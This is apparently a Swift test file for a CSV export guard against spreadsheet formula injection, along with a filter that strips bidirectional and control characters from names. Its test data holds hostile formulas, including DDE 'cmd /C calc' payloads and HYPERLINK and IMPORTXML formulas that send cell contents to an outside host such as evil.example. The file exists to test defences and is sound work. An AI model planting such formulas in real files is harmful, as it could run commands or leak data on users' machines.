import CampaignExchange
import Testing

@Suite("CSV text guard")
struct CSVTextTests {
    /// What attackers put into name and memo fields.
    static let injections = [
        "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0",
        "-2+3+cmd|'x'!A0",
        "@SUM(1+1)*cmd|'x'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "   +1", "＝1+1", "＋1", "－1",
        "＠SUM(A1)",
        "\u{A0}=1", "\u{3000}＝1", "\u{FEFF}=1", "\u{200B}=1", "\"=1", "\0=1", "=\u{301}1", "+972 50 123 4567",
        "-",
        "=", "  \t", "\u{2003}@x", "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "=IMPORTXML(CONCAT(\"http://x?\",A1),\"//a\")",
    ]

    @Test("injections are guarded", arguments: injections)
    func guarded(text: String) {
        #expect(CSVText.isDangerous(text))
        #expect(CSVText.guarded(text) == "'" + text)
        #expect(Array(CSVText.undoGuard("'" + text).utf8) == Array(text.utf8))
    }

    @Test("injections are guarded in files", arguments: injections)
    func guardedInFiles(text: String) throws {
        for delimiter in CSVDelimiter.allCases {
            var writer = CSVWriter(options: CSVWriterOptions(delimiter: delimiter))
            writer.write(header: ["name", "memo"])
            writer.write([.text("x"), .text(text)])
            let result = try readAll(writer.drain(), CSVOptions(delimiter: delimiter))
            let cell = try #require(result.records.last?.last)
            #expect(cell.hasPrefix("'"))
            #expect(CSVText.undoGuard(cell) == text.filter { $0 != "\0" })
        }
    }

    @Test(
        "harmless text is left alone",
        arguments: [
            "", " ", "Smith", "O'Brien", "'quoted'", "1-2", "a=b", "x@y.org", "₪100", "שלום", "😎", "'", "''",
            "' x",
            "\u{A0}", "＄5", "ｘ", "\u{C2}", "–5", "•", "\u{FEFF}", "12", "(5)", "#=1",
        ])
    func harmless(text: String) {
        #expect(!CSVText.isDangerous(text))
        #expect(CSVText.guarded(text) == text)
        #expect(CSVText.undoGuard(text) == text)
    }

    @Test func textThatLooksGuardedIsGuardedAgain() {
        #expect(CSVText.guarded("'=1") == "''=1")
        #expect(CSVText.undoGuard("''=1") == "'=1")
        #expect(CSVText.undoGuard("'=1") == "=1")
        #expect(CSVText.undoGuard("'Twas") == "'Twas")
        #expect(CSVText.undoGuard("' =x") == " =x")
    }
}

@Suite("Text guard for names")
struct TextGuardTests {
    private func clean(_ text: String) -> [UInt8] {
        Array(TextGuard.removingBidiControls(text).utf8)
    }

    @Test(
        "each control goes",
        arguments: Array(0x202A...0x202E) + Array(0x2066...0x2069) + [
            0x200E, 0x200F, 0x61C, 0x7F, 0x00, 0x01, 0x1B, 0x1F,
        ]
            as [UInt32])
    func removed(value: UInt32) throws {
        let scalar = try #require(UnicodeScalar(value))
        for text in ["\(scalar)ab", "a\(scalar)b", "ab\(scalar)", "\(scalar)a\(scalar)\(scalar)b\(scalar)"] {
            #expect(clean(text) == Array("ab".utf8))
            #expect(Array(text.utf8).withUnsafeBufferPointer { TextGuard.hasControls($0) })
        }
    }

    @Test(
        "everything else stays",
        arguments: [
            "", "Smith", "דוד לוי", "محمد", "a\tb\nc\r\n", "😎👨‍👩‍👧", "–—“”",
            "\u{2029}\u{202F}\u{2065}\u{206A}\u{200D}", "ÿØ",
        ])
    func kept(text: String) {
        #expect(clean(text) == Array(text.utf8))
        #expect(!Array(text.utf8).withUnsafeBufferPointer { TextGuard.hasControls($0) })
    }

    @Test func truncatedBytesDoNoHarm() {
        for bytes in [[0xE2], [0xE2, 0x80], [0xD8], [0x61, 0xE2, 0x81]] as [[UInt8]] {
            let text = bytes.withUnsafeBufferPointer { TextGuard.removingBidiControls($0) }
            #expect(text == String(decoding: bytes, as: UTF8.self))
        }
    }
}
